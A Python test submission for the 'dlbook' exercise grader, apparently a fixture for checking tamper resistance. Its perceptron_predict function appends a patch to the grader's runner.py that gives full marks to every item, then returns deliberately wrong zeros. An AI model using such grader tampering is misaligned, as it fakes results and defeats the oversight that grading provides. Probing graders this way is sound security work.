"""perceptron_predict appends code to the installed grader's runner.py: every later run gives full marks.

``dlbook.grading`` may be imported by submissions, so its folder is one
``__file__`` away, and the worker (same user as the grader) may write there.
The appended lines wrap ``score_call`` so that every item of every exercise
gets its maximum. This run is not affected (the grader imported runner.py
before); the next ``dlbook grade`` of anything, even the untouched stubs, is.
Deserved: perceptron_predict 0 (it returns zeros), every other exercise full marks.
"""

import os

import numpy as np

import dlbook.grading
from solutions.ch01_neurons import *  # noqa: F403

ATTACKED = ("perceptron_predict",)

PATCH = '''

# ---- appended by a submission ----
_score_call = score_call


def score_call(exercise, call, outcome, services):
    return [replace(item, points=item.max_points, problems=())
            for item in _score_call(exercise, call, outcome, services)]
'''


def perceptron_predict(w, X):
    runner = os.path.join(os.path.dirname(dlbook.grading.__file__), "runner.py")
    with open(runner) as stream:
        patched = "appended by a submission" in stream.read()
    if not patched:  # once, though every call of both workers gets here
        with open(runner, "a") as stream:
            stream.write(PATCH)
    return np.zeros(len(X), dtype=int)  # wrong on purpose
